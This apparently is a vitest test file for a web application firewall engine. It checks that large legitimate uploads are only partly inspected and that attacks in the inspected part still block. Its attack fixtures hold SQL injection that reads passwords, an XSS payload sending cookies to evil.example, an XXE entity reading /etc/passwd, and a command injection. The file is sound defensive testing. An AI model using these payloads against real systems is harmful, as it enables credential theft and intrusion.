import { describe, expect, it } from 'vitest';
import { createEngine, type RequestRecord, type Verdict } from './index.js';

/**
 * Legitimate requests larger than `max_body_bytes` (128 KiB) are inspected in part and not blocked
 * at the default sensitivity; `protocol.limit_exceeded` at `body` says so. An attack in the part that
 * was received still blocks. Bodies are generated here rather than kept as megabytes of testdata.
 */
const engine = createEngine();
const enc = new TextEncoder();
const H = (ct: string) => ({ host: 'shop.example', 'user-agent': 'Mozilla/5.0', 'content-type': ct });

/** Bytes that look like a PNG: the signature and IHDR, then pseudo-random data (NULs included). */
function png(n: number, seed = 12345): Uint8Array {
  const b = new Uint8Array(n);
  b.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  let x = seed;
  for (let i = 16; i < n; i++) {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    b[i] = x >>> 24;
  }
  return b;
}
function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}
const products = (first = 'Organic cotton T-shirt') =>
  JSON.stringify(
    Array.from({ length: 1200 }, (_, i) => ({
      id: i,
      sku: `SKU-${100000 + i}`,
      name: i === 0 ? first : `Organic cotton T-shirt, size ${['S', 'M', 'L'][i % 3]}`,
      description: 'Soft, breathable and made to last. Machine washable at 30°C; do not tumble dry.',
      price: 19.99 + i,
      tags: ['apparel', 'summer'],
      image: `https://cdn.shop.example/p/${i}.jpg`,
    })),
  );
const image = png(2 * 1024 * 1024);
const multipart = (title: string) =>
  concat(
    enc.encode(
      `--XyZb\r\nContent-Disposition: form-data; name="title"\r\n\r\n${title}\r\n--XyZb\r\n` +
        'Content-Disposition: form-data; name="photo"; filename="beach.png"\r\nContent-Type: image/png\r\n\r\n',
    ),
    image,
    enc.encode('\r\n--XyZb--\r\n'),
  );
const prose =
  'The quick brown fox jumps over the lazy dog. Select your favourite items and order them before Friday; delivery is free over £50.\n';
const xml = (head = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${head}<catalog>\n${Array.from(
    { length: 3000 },
    (_, i) =>
      `  <book id="bk${i}"><author>Gambardella, Matthew</author><title>XML Developer's Guide</title><price>44.95</price><description>An in-depth look at creating applications with XML.</description></book>\n`,
  ).join('')}</catalog>\n`;
const base64 = (bytes: Uint8Array) => {
  let s = '';
  for (let i = 0; i < bytes.length; i += 0x8000) s += String.fromCharCode(...bytes.subarray(i, i + 0x8000));
  return btoa(s);
};

const benign: [string, RequestRecord][] = [
  [
    '300 KB JSON array of products',
    { method: 'POST', url: '/api/products/import', headers: H('application/json'), body: products() },
  ],
  [
    '2 MB PNG as multipart/form-data',
    {
      method: 'POST',
      url: '/upload',
      headers: H('multipart/form-data; boundary=XyZb'),
      body: multipart('Holiday'),
    },
  ],
  [
    '2 MB PNG as application/octet-stream',
    { method: 'PUT', url: '/files/beach.png', headers: H('application/octet-stream'), body: image },
  ],
  ['2 MB PNG as image/png', { method: 'PUT', url: '/files/beach.png', headers: H('image/png'), body: image }],
  [
    '200 KB text/plain',
    { method: 'POST', url: '/notes', headers: H('text/plain; charset=utf-8'), body: prose.repeat(1600) },
  ],
  [
    '500 KB XML document',
    { method: 'POST', url: '/api/catalog', headers: H('application/xml'), body: xml() },
  ],
  [
    '400 KB JSON with a base64 file',
    {
      method: 'POST',
      url: '/api/files',
      headers: H('application/json'),
      body: JSON.stringify({
        filename: 'scan.png',
        content_type: 'image/png',
        data: base64(image.subarray(0, 300_000)),
      }),
    },
  ],
  [
    '600 KB UTF-8 form cut inside an escape',
    {
      method: 'POST',
      url: '/posts',
      headers: H('application/x-www-form-urlencoded; charset=UTF-8'),
      body: `title=My+post&body=${encodeURIComponent('Vous êtes très élégant — ça va? '.repeat(8000))}`,
    },
  ],
];

const rules = (v: Verdict) => v.findings.map((f) => `${f.rule}@${f.location}`);

describe('large legitimate bodies are inspected in part, not blocked', () => {
  it.each(benign)('%s', (_d, r) => {
    const v = engine.inspect(r);
    expect(v.action, JSON.stringify(rules(v))).not.toBe('block');
    expect(v.score).toBeLessThan(engine.config.blockThreshold);
    expect(rules(v)).toContain('protocol.limit_exceeded@body');
    expect(
      v.findings.every((f) => f.class === 'protocol' && f.severity === 'low'),
      JSON.stringify(rules(v)),
    ).toBe(true);
  });
  it('binary uploads under the limit are not read as text either (40 pseudo-random PNGs)', () => {
    for (let seed = 1; seed <= 40; seed++) {
      const bytes = png(20_000, seed);
      const v = engine.inspect({ method: 'PUT', url: '/files/a.png', headers: H('image/png'), body: bytes });
      expect(v.findings, JSON.stringify(rules(v))).toEqual([]);
    }
  });
  it('a request only partially inspected is refused at the paranoid sensitivity', () => {
    const paranoid = createEngine({ sensitivity: 'paranoid' });
    expect(paranoid.inspect(benign[2]![1]).action).toBe('block');
  });
  it('a caller that cut the body itself says so with body_truncated', () => {
    const body = products().slice(0, 5000);
    const r: RequestRecord = {
      method: 'POST',
      url: '/api/products/import',
      headers: H('application/json'),
      body,
    };
    expect(rules(engine.inspect(r))).toContain('protocol.malformed_body@body');
    const v = engine.inspect({ ...r, body_truncated: true });
    expect(rules(v)).toEqual(['protocol.limit_exceeded@body']);
    expect(v.action).toBe('log');
  });
});

describe('body_limit_action: block refuses what it cannot read whole', () => {
  const strict = createEngine({ body_limit_action: 'block' });
  it('blocks a text body over max_body_bytes, whatever hides past the window', () => {
    const r: RequestRecord = {
      method: 'POST',
      url: '/posts',
      headers: H('application/x-www-form-urlencoded'),
      body: `a=${'x'.repeat(140_000)}&q=${encodeURIComponent("1' UNION SELECT password FROM users--")}`,
    };
    expect(engine.inspect(r).action).toBe('log');
    const v = strict.inspect(r);
    expect(v.action).toBe('block');
    expect(rules(v)).toContain('protocol.body_limit_rejected@body');
  });
  it('leaves multipart uploads, binary bodies, cuts by the caller and small bodies alone', () => {
    for (const [, r] of benign) {
      const v = strict.inspect(r);
      if (/multipart|image|octet/.test(String(r.headers?.['content-type'])))
        expect(v.action).not.toBe('block');
    }
    const png1 = png(200_000, 3);
    expect(
      strict.inspect({ method: 'PUT', url: '/a.png', headers: H('image/png'), body: png1 }).action,
    ).not.toBe('block');
    const cut: RequestRecord = {
      method: 'POST',
      url: '/p',
      headers: H('text/plain'),
      body: 'abc',
      body_truncated: true,
    };
    expect(rules(strict.inspect(cut))).toEqual(['protocol.limit_exceeded@body']);
    expect(
      strict.inspect({ method: 'POST', url: '/p', headers: H('text/plain'), body: 'hello' }).action,
    ).toBe('allow');
  });
  it('refuses an unknown action', () => {
    expect(() => createEngine({ body_limit_action: 'drop' as 'block' })).toThrow(/body_limit_action/);
  });
});

describe('an attack in the inspected part of a large body still blocks', () => {
  const attacks: [string, string, RequestRecord][] = [
    [
      'sqli',
      'SQL injection in the first product of a 300 KB JSON array',
      {
        method: 'POST',
        url: '/api/products/import',
        headers: H('application/json'),
        body: products("x' UNION SELECT username, password FROM users--"),
      },
    ],
    [
      'xss',
      'XSS in a text field before a 2 MB file',
      {
        method: 'POST',
        url: '/upload',
        headers: H('multipart/form-data; boundary=XyZb'),
        body: multipart('<script>fetch("//evil.example/?c="+document.cookie)</script>'),
      },
    ],
    [
      'xxe',
      'external entity at the top of a 500 KB XML document',
      {
        method: 'POST',
        url: '/api/catalog',
        headers: H('application/xml'),
        body: xml('<!DOCTYPE catalog [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'),
      },
    ],
    [
      'cmdi',
      'command injection in the first field of a 600 KB form',
      {
        method: 'POST',
        url: '/posts',
        headers: H('application/x-www-form-urlencoded'),
        body: `host=${encodeURIComponent('127.0.0.1; cat /etc/passwd')}&body=${'a'.repeat(600_000)}`,
      },
    ],
  ];
  it.each(attacks)('%s: %s', (cls, _d, r) => {
    const v = engine.inspect(r);
    expect(v.action, JSON.stringify(rules(v))).toBe('block');
    expect(v.findings.map((f) => f.class)).toContain(cls);
    expect(rules(v)).toContain('protocol.limit_exceeded@body');
  });
});
